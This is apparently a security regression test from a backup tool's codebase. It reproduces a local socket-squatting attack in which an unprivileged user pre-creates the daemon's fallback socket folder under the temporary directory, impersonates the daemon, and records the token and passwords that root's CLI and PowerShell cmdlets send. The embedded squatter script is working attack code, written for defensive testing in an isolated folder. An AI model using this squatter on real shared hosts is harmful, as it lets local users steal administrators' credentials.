/**
 * The socket-folder squat of issue 14: another local user creates the folder where root's daemon
 * puts its socket when the state folder's path is too long for one (`defaultEndpoint`), listens
 * there before the daemon starts (and again after it, as the folder's owner may), and answers like
 * a daemon. Then root's CLI and module start the daemon and configure it. Whatever reaches the
 * squatter is compared with the token, the share password and the .pfx password.
 *
 * The fallback folder lies in the system's temporary folder (`/tmp/azsbackup-0` for root), which
 * other daemons and tests on this machine share, so the whole attack runs with a temporary folder of
 * its own (TMPDIR: a fresh folder, sticky and world-writable like /tmp) and no XDG_RUNTIME_DIR.
 * `squatFallbackSocket` starts this file so; run directly it plays the attack and prints one JSON line.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { defaultEndpoint } from '../../src/util/platform.js';
import { cliMain, findPwsh, moduleManifest, pwshEnv } from '../../test/helpers/pwsh.js';
import { quote } from '../../test/helpers/pwshSession.js';

export interface SquatResult {
  /** Where the daemon's socket was (the fallback folder when the squat can work). */
  endpoint: string;
  /** Which secrets reached the squatter. */
  received: string[];
  bytes: number;
}

const SHARE_PASSWORD = 'Squat-Share-Password-7!';
const PFX_PASSWORD = 'Squat-Pfx-Password-7!';

/**
 * The squatter, run as the other user with `node -e`: creates the folder (0777), listens on the
 * socket path and listens again whenever the path is not its own socket any more; answers
 * `session.authenticate` and `daemon.status` like a daemon, refuses the rest; prints every byte it
 * receives as a base64 line.
 */
const SQUATTER = `
const fs = require('fs'), net = require('net'), path = require('path');
const socket = process.argv[1];
try { fs.mkdirSync(path.dirname(socket), { mode: 0o777 }); fs.chmodSync(path.dirname(socket), 0o777); } catch {}
const results = {
  'session.authenticate': { deploymentId: '00000000-0000-4000-8000-000000000000' },
  'daemon.status': { pid: process.pid, version: '0', stateDir: '', socket, deploymentId: '00000000-0000-4000-8000-000000000000', location: 'local', startedAt: new Date().toISOString() },
};
function answer(connection, line) {
  let message; try { message = JSON.parse(line); } catch { return; }
  if (message.id === undefined) return;
  const result = results[message.method];
  connection.write(JSON.stringify(result ? { jsonrpc: '2.0', id: message.id, result } : { jsonrpc: '2.0', id: message.id, error: { code: -32000, message: 'squatted' } }) + '\\n');
}
let inode = null;
function listen() {
  try { fs.unlinkSync(socket); } catch {}
  const server = net.createServer((connection) => {
    let pending = '';
    connection.on('error', () => {});
    connection.on('data', (chunk) => {
      console.log(chunk.toString('base64'));
      pending += chunk;
      for (let end = pending.indexOf('\\n'); end >= 0; end = pending.indexOf('\\n')) { answer(connection, pending.slice(0, end)); pending = pending.slice(end + 1); }
    });
  });
  server.on('error', () => {});
  server.listen(socket, () => { fs.chmodSync(socket, 0o777); inode = fs.lstatSync(socket).ino; });
}
listen();
setInterval(() => { let now = null; try { now = fs.lstatSync(socket).ino; } catch {} if (inode !== null && now !== inode) { inode = null; listen(); } }, 20);
console.log('READY ' + process.pid);
`;

/** Runs the attack with a temporary folder of its own, as root with `user` squatting. */
export function squatFallbackSocket(user: string): Promise<SquatResult> {
  const temporary = mkdtempSync(path.join(os.tmpdir(), 'azs-squat-tmp-'));
  chmodSync(temporary, 0o1777);
  const env: NodeJS.ProcessEnv = { ...process.env, TMPDIR: temporary };
  delete env.XDG_RUNTIME_DIR;
  const child = spawn(process.execPath, [fileURLToPath(import.meta.url), user], {
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  child.on('close', () => rmSync(temporary, { recursive: true, force: true }));
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk) => (stdout += chunk));
  child.stderr.on('data', (chunk) => (stderr += chunk));
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => {
      const line = stdout.trim().split('\n').pop() ?? '';
      if (code === 0 && line.startsWith('{')) resolve(JSON.parse(line) as SquatResult);
      else reject(new Error(`the squat run ended ${code}: ${stderr.trim().slice(-500)}`));
    });
  });
}

/** A state folder whose `run/daemon.sock` is longer than a socket path may be. */
function longStateDir(): string {
  const folder = path.join(os.tmpdir(), 'azs-squat', 'deployment-state-'.repeat(6));
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  return folder;
}

interface Squatter {
  pid: number;
  received: Buffer[];
  /** Resolves once everything the squatter printed has been read (after it ends). */
  ended: Promise<unknown>;
}

function startSquatter(user: string, socket: string): Promise<Squatter> {
  const squatter = spawn('runuser', ['-u', user, '--', process.execPath, '-e', SQUATTER, socket], {
    cwd: '/',
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  const received: Buffer[] = [];
  const ended = new Promise((resolve) => squatter.stdout.on('close', resolve));
  let lines = '';
  return new Promise((resolve, reject) => {
    squatter.on('error', reject);
    squatter.on('exit', (code) => reject(new Error(`the squatter exited (${code}) before it was ready`)));
    squatter.stdout.on('data', (chunk: Buffer) => {
      lines += chunk.toString();
      for (let end = lines.indexOf('\n'); end >= 0; end = lines.indexOf('\n')) {
        const line = lines.slice(0, end);
        lines = lines.slice(end + 1);
        if (line.startsWith('READY ')) resolve({ pid: Number(line.slice(6)), received, ended });
        else received.push(Buffer.from(line, 'base64'));
      }
    });
  });
}

/** Root's clients as an operator runs them: the CLI's `start` and `status`, then cmdlets that send secrets. */
function operatorClients(stateDir: string): void {
  const cli = (...args: string[]) =>
    spawnSync(process.execPath, [cliMain, ...args, '--state-dir', stateDir], {
      stdio: 'ignore',
      timeout: 30_000,
    });
  cli('start');
  cli('status');
  const fakePfx = path.join(os.tmpdir(), 'azs-squat', 'backup.pfx');
  writeFileSync(fakePfx, 'not a pfx');
  const secure = (variable: string) => `(ConvertTo-SecureString $env:${variable} -AsPlainText -Force)`;
  const script = `$ErrorActionPreference = 'Continue'; Import-Module ${quote(moduleManifest)}
    Set-AzsBackupConfiguration -Path ${quote(path.join(os.tmpdir(), 'azs-squat'))} -UserName operator -Password ${secure('SQUAT_SHARE_PASSWORD')}
    Test-AzsBackup -Name 00000000-0000-4000-8000-000000000000 -DecryptionCertPath ${quote(fakePfx)} -DecryptionCertPassword ${secure('SQUAT_PFX_PASSWORD')}`;
  spawnSync(findPwsh(), ['-NoProfile', '-NonInteractive', '-Command', script], {
    env: pwshEnv({
      AZSBACKUP_HOME: stateDir,
      SQUAT_SHARE_PASSWORD: SHARE_PASSWORD,
      SQUAT_PFX_PASSWORD: PFX_PASSWORD,
    }),
    stdio: 'ignore',
    timeout: 120_000,
  });
}

/** Kills the daemon of the state folder, found by its pid lock (taken before it listens). */
function stopDaemonOf(stateDir: string): void {
  const lock = path.join(stateDir, 'run', 'daemon.pid');
  if (!existsSync(lock)) return;
  try {
    process.kill(Number.parseInt(readFileSync(lock, 'utf8'), 10), 'SIGKILL');
  } catch {
    // it has already gone
  }
}

async function playAttack(user: string): Promise<SquatResult> {
  const stateDir = longStateDir();
  const endpoint = defaultEndpoint(stateDir);
  const squatter = await startSquatter(user, endpoint);
  try {
    operatorClients(stateDir);
  } finally {
    stopDaemonOf(stateDir);
    process.kill(squatter.pid, 'SIGKILL'); // the squatter itself: runuser then ends too
  }
  await squatter.ended;
  const got = Buffer.concat(squatter.received);
  const tokenFile = path.join(stateDir, 'token');
  const secrets: Array<[string, string]> = [
    ['the token', existsSync(tokenFile) ? readFileSync(tokenFile, 'utf8').trim() : ''],
    ['the share password', SHARE_PASSWORD],
    ['the .pfx password', PFX_PASSWORD],
  ];
  const received = secrets.filter(([, secret]) => secret && got.includes(secret)).map(([name]) => name);
  return { endpoint, received, bytes: got.length };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  process.stdout.write(`${JSON.stringify(await playAttack(process.argv[2]!))}\n`);
  process.exit(0);
}
